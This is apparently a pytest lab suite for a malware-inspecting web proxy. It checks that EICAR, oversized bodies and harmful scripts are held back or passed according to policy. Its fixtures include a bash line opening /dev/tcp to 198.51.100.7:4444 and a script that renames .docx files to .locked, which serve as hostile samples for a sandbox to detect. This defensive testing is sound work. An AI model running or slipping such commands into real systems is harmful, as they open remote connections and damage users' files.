"""Bodies held until they were inspected, with real packets: known malware, scripts that do harm, and what is large."""

import hashlib
import os
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
from web_stand import CLIENT4, EICAR, Stand, eventually, stand

from kitei.drivers.squid import _folders
from kitei.proxy.policy import Policy, Sandbox
from kitei.spool import Taking

pytestmark = pytest.mark.lab

BIG = os.urandom(6 << 20)
BODIES = {
    "/eicar": EICAR,
    "/big": BIG,
    "/late-eicar": BIG[: 3 << 20] + EICAR,
    "/larger": BIG + BIG,
    "/harmless.sh": b"#!/bin/sh\necho hello > /tmp/note\n",
    "/caller.sh": b"#!/bin/bash\nexec 3<>/dev/tcp/198.51.100.7/4444\n",
    "/spoiler.sh": b"#!/bin/sh\nfor each in *.docx; do mv $each $each.locked; done\n",
    "/empty": b"",
}


@pytest.fixture(scope="module")
def web(shared_bench: Any, make_right: Any) -> Iterator[Stand]:
    with stand(shared_bench, make_right, BODIES) as made:
        yield made


def held(version: int, **bounds: Any) -> Policy:
    sandbox = Sandbox(largest=8 << 20, **bounds)
    return Policy("C-1", version, (), "allow", inspect=True, sandbox=sandbox)


def fetched(web: Stand, path: str) -> bytes:
    target = web.folder / "fetched"
    target.unlink(missing_ok=True)
    got = web.curl(f"https://ok.test{path}", "--cacert", web.trust(), "-o", str(target))
    assert got.returncode == 0, got
    return target.read_bytes()


def events(web: Stand, version: int) -> list[Any]:
    told = Taking(Path(web.host.state("events", "held"))).due(1000)
    return [each["body"] for each in told if each["body"]["policy"] == version]


def test_without_the_option_everything_passes_as_it_is(web: Stand) -> None:
    web.put(web.gateway(Policy("C-1", 1, (), "allow", inspect=True)))
    assert fetched(web, "/eicar") == EICAR
    assert not any("clamd" in program for program in web.host.running())


def test_with_it_known_malware_is_held_back_and_all_else_comes_whole(web: Stand) -> None:
    web.put(web.gateway(held(2), holds=True))
    eventually(lambda: b"Eicar-Test-File" in fetched(web, "/eicar"), 30.0)  # clamd reads its signatures first
    for path in ("/big", "/harmless.sh", "/empty"):
        assert fetched(web, path) == BODIES[path], path
    page = fetched(web, "/late-eicar").decode()
    digest = hashlib.sha256(BODIES["/late-eicar"]).hexdigest()
    assert digest in page and "既知のマルウェア" in page and EICAR.decode() not in page
    told = eventually(lambda: [each for each in events(web, 2) if each["digest"] == digest])[-1]
    assert (told["outcome"], told["told"], told["source"], told["url"], told["action"]) == (
        *("infected", ["Eicar-Test-File.UNOFFICIAL"], CLIENT4, "https://ok.test/late-eicar", "block"),
    )
    assert digest in (web.host.read(web.host.state("web", "reports", f"{digest}.json")) or "")


def test_a_script_is_run_where_it_harms_nobody_and_held_back_for_what_it_did(web: Stand) -> None:
    web.put(web.gateway(held(3), holds=True))
    assert fetched(web, "/harmless.sh") == BODIES["/harmless.sh"]
    assert b"connects to 198.51.100.7 port 4444" in fetched(web, "/caller.sh")
    assert b"spoils the document letter.docx" in fetched(web, "/spoiler.sh")


def test_many_at_once_come_whole_and_clients_who_go_away_harm_nobody(web: Stand) -> None:
    web.put(web.gateway(held(3), holds=True))
    before = {name: pid for name, pid in web.host.running().items() if "squid" in name}
    trust = web.trust()

    def fetch(number: int) -> bytes:
        target = web.folder / f"fetched-{number}"
        hurry = ("--max-time", f"{0.02 * number}") if number % 3 == 0 else ()
        got = web.curl("https://ok.test/big", "--cacert", trust, "-o", str(target), *hurry)
        return target.read_bytes() if got.returncode == 0 else b""

    with ThreadPoolExecutor(8) as pool:
        bodies = list(pool.map(fetch, range(24)))
    assert all(body == BIG for number, body in enumerate(bodies) if number % 3)
    assert {name: pid for name, pid in web.host.running().items() if "squid" in name} == before
    held_now = f"{_folders(web.host).run}/held"

    eventually(lambda: set(web.host.run(["ls", held_now]).out.split()) == {"ask", "clamd"})


def test_what_is_released_passes_once(web: Stand) -> None:
    digest = hashlib.sha256(BODIES["/caller.sh"]).hexdigest()
    policy = held(4)
    released = Policy(
        "C-1", 4, (), "allow", inspect=True, sandbox=policy.sandbox, released=(("release-1", digest),)
    )
    web.put(web.gateway(released, holds=True))
    assert fetched(web, "/caller.sh") == BODIES["/caller.sh"]
    assert b"198.51.100.7" in fetched(web, "/caller.sh") and b"<html" in fetched(web, "/caller.sh")
    assert [each["release"] for each in events(web, 4)][:2] == ["release-1", ""]


@pytest.mark.parametrize("too_large", ["pass", "block"])
def test_what_is_too_large_has_the_fate_that_was_told(web: Stand, too_large: Any) -> None:
    web.put(web.gateway(held(5, too_large=too_large), holds=True))
    got = fetched(web, "/larger")
    assert got == BODIES["/larger"] if too_large == "pass" else "大きさを超えて".encode() in got
    assert events(web, 5)[-1]["outcome"] == "too-large"


@pytest.mark.parametrize("unsure", ["pass", "block"])
def test_what_cannot_be_inspected_has_the_fate_that_was_told(web: Stand, unsure: Any) -> None:
    web.put(web.gateway(held(6, unsure=unsure), holds=True))
    web.host.stop("web-clamd")
    got = fetched(web, "/x?unsure")
    assert (b'"path"' in got) == (unsure == "pass"), got
    web.host.stop("web-sandbox")  # nobody to ask at all
    got = fetched(web, "/x?nobody")
    assert (b'"path"' in got) == (unsure == "pass"), got
